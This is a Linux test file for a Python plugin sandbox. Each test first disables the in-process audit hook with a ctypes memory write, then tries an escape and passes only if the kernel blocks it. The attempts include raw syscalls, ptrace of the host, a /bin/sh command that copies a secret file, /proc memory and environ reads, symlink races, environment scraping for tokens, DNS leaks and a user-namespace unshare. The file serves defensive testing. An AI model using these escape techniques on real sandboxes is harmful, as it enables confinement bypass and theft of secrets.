"""The techniques in-process hooks cannot stop, run INSIDE a process plugin.

One sandboxed Python plugin (started through the bootstrap, with the in-child enforcer) runs
each attack. Every attack first switches the in-child audit hook off — through a ctypes
memory write, the technique test_escape_inprocess.py shows the hook cannot prevent — and
checks it really is off (a read the policy refuses but the kernel allows now succeeds), so
what stops the attack is the kernel (Landlock, seccomp) or the scrubbed environment, never
the hook. Each test passes only if its attack fails.

The plugin's manifest grants ``native: true`` (ctypes, ``_posixsubprocess``) and the test
policy has no rule against it: the in-process guard lets these doors open on purpose.
"""

from __future__ import annotations

import errno
import os
import socket
import sys
import textwrap
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "sandbox"))

from promptline.loaders._process import landlock_abi  # noqa: E402

if not sys.platform.startswith("linux") or landlock_abi() < 4:
    pytest.skip("process-sandbox escape tests need Linux with Landlock ABI >= 4", allow_module_level=True)

from sandbox_helpers import load, write_python_plugin  # noqa: E402

SECRET = "TOPSECRET-PROCESS-ESCAPE"

PROBE = '''
def probe(arg):
    ns = {"result": None}
    exec(arg, ns)
    return ns["result"]
'''

# Switch the hook off with a raw C-API memory write (needs native, granted here), then prove it.
PRELUDE = '''
import ctypes, os, sys, errno
from promptline.enforcer import _hook
ctypes.pythonapi.Py_IncRef(ctypes.py_object(None))
ctypes.pythonapi.PyList_SetItem(ctypes.py_object(_hook.BOX), ctypes.c_ssize_t(0), ctypes.py_object(None))
assert _hook.BOX[0] is None
open("/usr/lib/os-release").read()   # the policy refuses this read; the kernel allows it
def attempt(fn, *a, **k):
    try:
        return ("ok", fn(*a, **k))
    except OSError as e:
        return ("refused", e.errno, type(e).__name__)
'''

POLICY = """\
apiVersion: promptline/v1
kind: Policy
layer: org
settings:
  sandbox_minimum: process
rules: []
"""


@pytest.fixture(scope="module")
def attacker(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("escape")
    (tmp / "allowed").mkdir()
    (tmp / "allowed" / "ok.txt").write_text("fine")
    (tmp / "out").mkdir()
    (tmp / "secret").mkdir()
    (tmp / "secret" / "key.txt").write_text(SECRET)
    policy = tmp / "policy.yaml"
    policy.write_text(POLICY)
    old = os.environ.get("PL_SECRET_TOKEN")
    os.environ["PL_SECRET_TOKEN"] = SECRET
    try:
        root = write_python_plugin(tmp / "plugins", "attacker", PROBE, read=[str(tmp / "allowed")],
                                   write=[str(tmp / "out")], native=True)
        loaded = load(root, tmp, policy_files=(policy,))
        loaded.extras["tmp"] = tmp
        yield loaded
        loaded.plugin.shutdown()
    finally:
        if old is None:
            os.environ.pop("PL_SECRET_TOKEN", None)
        else:
            os.environ["PL_SECRET_TOKEN"] = old


def attack(attacker, code: str, **fmt):
    tmp = attacker.extras["tmp"]
    values = {"secret": str(tmp / "secret" / "key.txt"), "secret_dir": str(tmp / "secret"),
              "allowed": str(tmp / "allowed"), "out": str(tmp / "out"), **fmt}
    body = PRELUDE + textwrap.dedent(code).format(**values)
    r = attacker.plugin.call_tool("run", {"arg": body}, timeout=30)
    assert r.ok, r.content
    text = repr(r.data)
    assert SECRET not in text, "the secret reached the plugin"
    return r.data


def refused(outcome, code=errno.EACCES):
    return outcome[0] == "refused" and outcome[1] == code and outcome[2] != "PolicyViolation"


def test_the_hook_is_really_on_before_the_attack(attacker):
    r = attacker.plugin.call_tool("run", {"arg": "result = open('/usr/lib/os-release').read()"}, timeout=30)
    assert not r.ok and "may not fs.read" in r.content


def test_ctypes_hook_disable_then_read_a_secret(attacker):
    out = attack(attacker, "result = attempt(lambda: open({secret!r}).read())")
    assert refused(out)


def test_raw_openat_syscall_through_ctypes(attacker):
    out = attack(attacker, """
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        fd = libc.syscall(ctypes.c_long(257), ctypes.c_int(-100), ctypes.c_char_p({secret!r}.encode()),
                          ctypes.c_int(os.O_RDONLY), ctypes.c_int(0))
        result = [fd, ctypes.get_errno()]""")
    assert out == [-1, errno.EACCES]


def test_raw_ptrace_of_the_host_through_ctypes(attacker):
    out = attack(attacker, """
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        rc = libc.syscall(ctypes.c_long(101), ctypes.c_long(16), ctypes.c_long({host}), None, None)
        result = [rc, ctypes.get_errno()]""", host=os.getpid())
    assert out == [-1, errno.EPERM]


def test_posixsubprocess_fork_exec_of_a_shell(attacker):
    leak = attacker.extras["tmp"] / "out" / "leak-forkexec"
    out = attack(attacker, """
        import _posixsubprocess, subprocess
        argv = [b"/bin/sh", b"-c", b"cat {secret} > {out}/leak-forkexec"]
        r, w = os.pipe()
        try:
            pid = _posixsubprocess.fork_exec(argv, [b"/bin/sh"], True, (w,), None, None, -1, -1, -1, -1,
                                             -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)
        except TypeError:   # another CPython's signature: the same call through subprocess
            try:
                pid = subprocess.Popen(["/bin/sh", "-c", argv[2].decode()]).pid
            except OSError as e:
                pid = None; data = ("exec refused", e.errno)
        os.close(w)
        err = b""
        while True:             # the child writes its exec error in pieces; read to EOF
            chunk = os.read(r, 4096)
            if not chunk:
                break
            err += chunk
        if pid:
            os.waitpid(pid, 0)
        result = ["exec refused", err.decode()] if err else ["ran", pid]""")
    assert not leak.exists()
    # fork_exec reports `OSError:<errno in hex>:`; 0xd is EACCES (Landlock: no execute right)
    assert out[0] == "exec refused" and str(out[1]) in ("OSError:d:", str(errno.EACCES)), out


def test_multiprocessing_spawn_runs_confined(attacker):
    leak = attacker.extras["tmp"] / "out" / "leak-mp"
    out = attack(attacker, """
        import multiprocessing, shutil
        ctx = multiprocessing.get_context("spawn")
        p = ctx.Process(target=shutil.copyfile, args=({secret!r}, {out!r} + "/leak-mp"))
        try:
            p.start(); p.join(30); result = ["exit", p.exitcode]
        except OSError as e:
            result = ["refused", e.errno]""")
    assert not leak.exists()
    assert out[0] == "refused" or out[1] != 0


def test_proc_self_mem_write(attacker):
    out = attack(attacker, "result = attempt(lambda: open('/proc/self/mem', 'r+b'))")
    assert refused(out)


def test_other_process_memory_and_environ(attacker):
    out = attack(attacker, "result = [attempt(lambda: open('/proc/{host}/environ').read()), "
                           "attempt(lambda: open('/proc/{host}/mem', 'rb'))]", host=os.getpid())
    assert all(refused(o) for o in out)


def test_dir_fd_relative_open_of_a_sibling(attacker):
    out = attack(attacker, """
        d = os.open({allowed!r}, os.O_RDONLY | os.O_DIRECTORY)
        result = attempt(lambda: os.read(os.open("../secret/key.txt", os.O_RDONLY, dir_fd=d), 100))""")
    assert refused(out)


def test_symlink_to_a_secret_in_a_writable_dir(attacker):
    out = attack(attacker, """
        link = {out!r} + "/link"
        os.symlink({secret!r}, link)
        result = attempt(lambda: open(link).read())""")
    assert refused(out)


def test_symlink_race_never_yields_the_secret(attacker):
    out = attack(attacker, """
        import threading
        link, tmp = {out!r} + "/race", {out!r} + "/race.tmp"
        good = {allowed!r} + "/ok.txt"
        stop = False
        def flip():
            while not stop:
                for target in (good, {secret!r}):
                    try:
                        os.symlink(target, tmp); os.replace(tmp, link)
                    except OSError:
                        pass
        t = threading.Thread(target=flip); t.start()
        import time
        seen = set()
        deadline = time.monotonic() + 20   # until both targets were met: a loaded machine flips slowly
        while time.monotonic() < deadline and not set(("fine", errno.EACCES)) <= seen:
            try:
                seen.add(open(link).read())
            except OSError as e:
                seen.add(e.errno)
        stop = True; t.join()
        result = sorted(map(str, seen))""")
    assert SECRET not in out and "fine" in out and str(errno.EACCES) in out


def test_raw_environment_holds_no_secret(attacker):
    # posix.environ is wrapped by the guard; go under it: libc's `environ` array, the
    # wrapped mapping's closure cells, and /proc/self/environ
    out = attack(attacker, """
        import posix
        libc = ctypes.CDLL(None)
        envp = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
        raw, i = [], 0
        while envp[i]:
            raw.append(envp[i].decode(errors="replace")); i += 1
        cells = []
        for fn in (type(posix.environ).__getitem__, type(os.environ).__getitem__):
            for cell in getattr(fn, "__closure__", None) or ():
                try:
                    cells.append(repr(cell.cell_contents)[:100000])
                except ValueError:
                    pass
        result = [raw, cells, attempt(lambda: open("/proc/self/environ", "rb").read().decode())]""")
    raw, cells, proc = out
    assert raw and not any(v.startswith(("PL_SECRET_TOKEN=", "PROMPTLINE_BOOTSTRAP=")) for v in raw)
    assert proc[0] == "refused" or "PL_SECRET_TOKEN" not in proc[1]


def test_host_environment_through_the_parent(attacker):
    out = attack(attacker, "result = attempt(lambda: open('/proc/%d/environ' % os.getppid(), 'rb').read().decode())")
    assert refused(out)


def test_dns_leak_before_connect(attacker):
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind(("127.0.0.1", 0))
    sink.settimeout(0.3)
    try:
        out = attack(attacker, """
            import socket
            query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" \\
                    b"\\x04leak\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
            def send():
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.sendto(query, ("127.0.0.1", {port}))
            result = [attempt(send), attempt(socket.getaddrinfo, "leak.example.com", 80)]""",
            port=sink.getsockname()[1])
        with pytest.raises(socket.timeout):
            sink.recvfrom(512)
    finally:
        sink.close()
    assert out[0][0] == "refused" and out[0][1] == errno.EPERM
    assert out[1][0] != "ok"


def test_tcp_connect_without_a_network_grant(attacker):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    try:
        out = attack(attacker, """
            import socket
            import _socket
            result = attempt(lambda: _socket.socket().connect(("127.0.0.1", {port})))""",
            port=server.getsockname()[1])
    finally:
        server.close()
    assert out[0] == "refused"


def test_signal_to_the_host(attacker):
    out = attack(attacker, "result = [attempt(os.kill, {host}, 0), attempt(os.kill, 1, 0)]", host=os.getpid())
    assert refused(out[0], errno.ESRCH) or refused(out[0], errno.EPERM)   # the host: not in the PID namespace
    assert refused(out[1], errno.EPERM)   # the namespace's init: outside the Landlock domain


def test_writing_outside_the_grant_after_the_hook_is_gone(attacker):
    target = Path.home() / ".promptline-escape-canary"
    out = attack(attacker, "result = attempt(lambda: open({t!r}, 'w').write('x'))", t=str(target))
    assert refused(out) and not target.exists()


def test_new_user_namespace_to_regain_privileges(attacker):
    out = attack(attacker, "result = attempt(os.unshare, os.CLONE_NEWUSER)" if hasattr(os, "unshare") else """
        libc = ctypes.CDLL(None, use_errno=True)
        result = ("refused", ctypes.get_errno(), "OSError") if libc.unshare(0x10000000) else ("ok", 0)""")
    assert refused(out, errno.EPERM)



def test_a_socket_refused_by_seccomp_is_recorded(tmp_path):
    """A connect without a network grant, hook on (the path of the issue's
    `asyncio.open_connection`): the in-child enforcer allows creating a socket
    (`socket.__new__`) and never sees a connect, because seccomp refuses the socket first.
    That kernel refusal is written to the host's audit log too."""
    root = write_python_plugin(tmp_path / "plugins", "asyncnet", PROBE)
    loaded = load(root, tmp_path)
    try:
        code = textwrap.dedent("""
            import socket
            try:
                socket.create_connection(("127.0.0.1", 9), timeout=5); result = "connected"
            except OSError as e:
                result = ["refused", e.errno]""")
        r = loaded.plugin.call_tool("run", {"arg": code}, timeout=30)
        assert r.ok and r.data == ["refused", errno.EPERM], r.content
        records = [line for line in loaded.audit_path.read_text().splitlines()
                   if "socket(family=2" in line and '"asyncnet"' in line and "seccomp" in line]
        assert records, "the seccomp refusal is not in the host's audit log"
        r = loaded.plugin.call_tool("run", {"arg": "result = 6 * 7"}, timeout=30)   # the control
        assert r.ok and r.data == 42
    finally:
        loaded.plugin.shutdown()
